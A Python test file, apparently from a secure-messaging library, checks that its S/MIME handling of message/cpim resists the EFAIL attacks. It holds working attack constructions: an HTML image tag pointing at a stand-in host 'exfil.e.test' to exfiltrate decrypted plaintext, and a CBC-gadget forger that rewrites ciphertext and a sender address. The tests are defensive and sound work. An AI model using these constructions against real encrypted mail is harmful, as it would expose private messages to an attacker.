"""EFAIL (Poddebniak et al., USENIX Security 2018; CVE-2017-17688, -17689) on message/cpim: direct exfiltration, CBC gadgets.

Alice encrypted a secret for Bob; Eve has the octets and sends Bob something made of them. Bob's ``verify`` has his key.
Nothing of the secret may come out under any verdict, but in the one message that is Alice's own (T9, M-27, M-28).
"""

from __future__ import annotations

import pytest

from comity.cpim.operations import MimeObject
from comity.secure import Verdict, VerdictKind, ber, cms_open, cms_seal, encrypt, sign
from comity.secure.identity import KeyKind
from tests.secure.kit import ALICE, BOB, EVE, NOW, cpim, identity, judged

SECRET = b"the launch code is 7291-4411"
CHANNEL = b'<img src="http://exfil.e.test/'


def bobs(obj: MimeObject) -> Verdict:
    return judged(obj, keys=(identity(BOB),))


def text(subtype: str, body: bytes) -> bytes:
    return MimeObject.of(f"text/{subtype}; charset=utf-8", body).entity


def cbc(entity: bytes) -> bytes:
    """EnvelopedData without authentication, as old senders make it."""
    return cms_seal.seal(entity, [identity(BOB).certificate], cipher="aes-128-cbc")


def enveloped(raw: bytes) -> MimeObject:
    return MimeObject.of("application/pkcs7-mime; smime-type=enveloped-data", raw)


def nothing_leaks(verdict: Verdict) -> None:
    shown = verdict.content.entity if verdict.content is not None else b""
    assert SECRET not in shown
    assert SECRET.decode() not in str(verdict.to_json())


# --- direct exfiltration -----------------------------------------------------------------------------------------


SEALED = {
    "authenticated": lambda: encrypt(cpim(content=SECRET), [identity(BOB).certificate]),
    "unauthenticated": lambda: enveloped(cbc(cpim(content=SECRET).entity)),
    "signed inside": lambda: encrypt(sign(cpim(content=SECRET), identity(), when=NOW), [identity(BOB).certificate]),
}


def around(ciphertext: MimeObject, subtype: str) -> MimeObject:
    """HTML whose attribute opens before the encrypted part and closes after it."""
    parts = (text("html", CHANNEL), ciphertext.entity, text("html", b'">'))
    octets = b"".join(b"--efail\r\n" + part + b"\r\n" for part in parts) + b"--efail--\r\n"
    return MimeObject.of(f"multipart/{subtype}; boundary=efail", octets)


@pytest.mark.parametrize("kind", SEALED)
@pytest.mark.parametrize("subtype", ["mixed", "related", "alternative", "digest"])
def test_an_encrypted_part_between_others_is_never_opened(subtype: str, kind: str) -> None:
    """Direct exfiltration: only a whole object is decrypted, so nothing is ever joined to a plaintext."""
    outer = around(SEALED[kind](), subtype)
    assert bobs(SEALED[kind]()).is_encrypted
    for obj in (outer, cpim("im:eve@e.test", content=outer.octets, content_type=outer.content_type)):
        verdict = bobs(obj)
        assert (verdict.verdict, verdict.is_encrypted) == (VerdictKind.UNSIGNED, False)
        nothing_leaks(verdict)


@pytest.mark.parametrize("kind", SEALED)
def test_eves_own_signature_around_it_opens_nothing(kind: str) -> None:
    """The whole is validly Eve's; what Alice encrypted stays as it is, a part or the content alone."""
    ciphertext = SEALED[kind]()
    outer = around(ciphertext, "mixed")
    header = ciphertext.header_block.partition(b"Content-Type: ")[2].partition(b"\r\n")[0].decode()
    for content, kind_of in ((outer.octets, outer.content_type), (ciphertext.octets, header)):
        message = cpim("im:eve@e.test", content=content, content_type=kind_of)
        verdict = bobs(sign(message, identity(EVE), when=NOW))
        assert (verdict.verdict, verdict.signer) == (VerdictKind.VALID, "im:eve@e.test")
        nothing_leaks(verdict)


def test_the_whole_object_with_eve_as_sender_around_it() -> None:
    """Encrypted content in a message of Eve's: if nobody signed inside, the verdict says unsigned and names who sent it."""
    ciphertext = encrypt(sign(cpim(content=SECRET), identity(), when=NOW), [identity(BOB).certificate])
    header = ciphertext.header_block.partition(b"Content-Type: ")[2].partition(b"\r\n")[0].decode()
    verdict = bobs(cpim("im:eve@e.test", content=ciphertext.octets, content_type=header))
    assert (verdict.verdict, verdict.from_) == (VerdictKind.ENVELOPE_MISMATCH, "im:alice@a.test")


# --- malleability ------------------------------------------------------------------------------------------------


def pieces(raw: bytes) -> tuple[bytes, bytes]:
    """Initialisation vector and ciphertext of an EnvelopedData."""
    fields = ber.Cursor(ber.Cursor(ber.read(raw).children[1]).next(ber.SEQUENCE))
    fields.next(ber.INTEGER)
    fields.next(ber.SET)
    _, algorithm, content = fields.next(ber.SEQUENCE).children
    return algorithm.children[1].octets(), b"".join(content.pieces(0x80))


def xor(*blocks: bytes) -> bytes:
    return bytes(a ^ b ^ c for a, b, c in zip(*blocks, strict=True))


def rebuilt(raw: bytes, vector: bytes, content: bytes) -> bytes:
    """The same EnvelopedData, for the same recipient, with another vector and ciphertext."""
    info = ber.read(raw)
    version, recipients, encrypted = info.children[1].children[0].children
    kind, algorithm, _ = encrypted.children
    changed = ber.sequence(algorithm.children[0].der(), ber.octet_string(vector))
    body = ber.sequence(version.der(), recipients.der(), ber.sequence(kind.der(), changed, ber.tlv(0x80, content)))
    return ber.sequence(info.children[0].der(), ber.tlv(0xA0, body))


WANTED = (b"Content-Type: te", b"xt/html\r\n\r\n     ", b'<img src="//e/?a')


def gadgets(raw: bytes, known: bytes) -> bytes:
    """Turn the beginning into HTML with a channel, the rest of the plaintext behind it.

    With the first block of plaintext known, (vector xor known xor wanted) before the first block of ciphertext decrypts to
    whatever is wanted; each such pair costs one block of noise before it."""
    vector, content = pieces(raw)
    first = content[:16]
    chosen = [xor(vector, known, block) for block in WANTED]
    forged = first + b"".join(block + first for block in chosen[1:]) + vector + content
    return rebuilt(raw, chosen[0], forged)


KNOWN = b"Content-Type: me"


@pytest.mark.parametrize("is_signed", [False, True], ids=["unsigned", "signed inside"])
def test_cbc_gadgets_get_nothing_shown(is_signed: bool) -> None:
    """M-27: the gadget works on the cipher, as it must, and gives the one answer that everything unproved gets."""
    message = cpim(content=SECRET)
    inside = sign(message, identity(), when=NOW) if is_signed else message
    known = b"Content-Type: mu" if is_signed else KNOWN
    raw = cbc(inside.entity)
    forged = gadgets(raw, known)
    plain = cms_open.open_enveloped(forged, [identity(BOB)]).entity
    assert plain.startswith(WANTED[0])
    assert WANTED[2] in plain
    assert SECRET in plain
    verdict = bobs(enveloped(forged))
    assert (verdict.verdict, verdict.content) == (VerdictKind.DECRYPTED_UNAUTHENTICATED, None)
    nothing_leaks(verdict)
    nothing_leaks(bobs(sign(enveloped(forged), identity(EVE), when=NOW)))


def test_a_changed_sender_in_the_first_blocks_is_not_shown() -> None:
    """Malleability: where Eve guesses the octets of From she can write herself; signing the result outside is no way in."""
    entity = (
        b"Content-Type: message/cpim\r\n\r\nFrom: <im:al@a.test>\r\n"
        + cpim(content=SECRET).octets.partition(b"\r\n")[2]
    )
    assert entity[32:48] == b"om: <im:al@a.tes"
    raw = cbc(entity)
    vector, content = pieces(raw)
    # Block 2 becomes Eve's address, block 1 noise: "Content-Type: message" stays whole in block 0 only in part.
    changed = bytearray(content)
    changed[16:32] = xor(content[16:32], entity[32:48], b"om: <im:ev@a.tes")
    forged = enveloped(rebuilt(raw, vector, bytes(changed)))
    for obj in (forged, sign(forged, identity(EVE), when=NOW)):
        verdict = bobs(obj)
        assert (verdict.verdict, verdict.content) == (VerdictKind.DECRYPTED_UNAUTHENTICATED, None)
        nothing_leaks(verdict)


def test_no_flipped_octet_shows_anything_but_the_signed_message() -> None:
    """M-28: behind CBC only what the inner signature covers is ever shown; and every "no" is the same one."""
    message = cpim(content=SECRET)
    raw = cbc(sign(message, identity(), when=NOW).entity)
    vector, content = pieces(raw)
    said = set()
    for at in range(0, len(content), 7):
        changed = bytearray(content)
        changed[at] ^= 0x20
        verdict = bobs(enveloped(rebuilt(raw, vector, bytes(changed))))
        if verdict.verdict is VerdictKind.VALID:
            assert verdict.content == message
        else:
            assert verdict.content is None
            said.add((verdict.verdict, verdict.reason, verdict.layers, verdict.refusal, verdict.from_))
    assert len(said) == 1


@pytest.mark.parametrize("kind", ["p256", "rsa", "ed25519"])
def test_no_flipped_octet_of_authenticated_data_opens(kind: KeyKind) -> None:
    """M-27, M-30: one text for key, nonce, content and tag."""
    reader = identity(BOB, kind)
    certificate = reader.decryption_keys[0].certificate
    message = cpim(content=SECRET)
    obj = encrypt(sign(message, identity(ALICE), when=NOW), [certificate])
    assert judged(obj, keys=(reader,)).is_valid
    for at in range(0, len(obj.octets), 3):
        changed = bytearray(obj.octets)
        changed[at] ^= 1
        verdict = judged(MimeObject(obj.header_block, bytes(changed)), keys=(reader,))
        if verdict.is_valid:  # a version number, say, which nothing depends on
            assert verdict.content == message
            continue
        assert verdict.verdict in (
            VerdictKind.CANNOT_DECRYPT,
            VerdictKind.MALFORMED,  # the structure, which anybody can see
            VerdictKind.NO_KEY,  # the name of the recipient
            VerdictKind.NOT_CHECKED,  # the name of an algorithm
            VerdictKind.BAD_SIGNATURE,  # the type of the structure
        ), at
        assert verdict.content is None
        nothing_leaks(verdict)
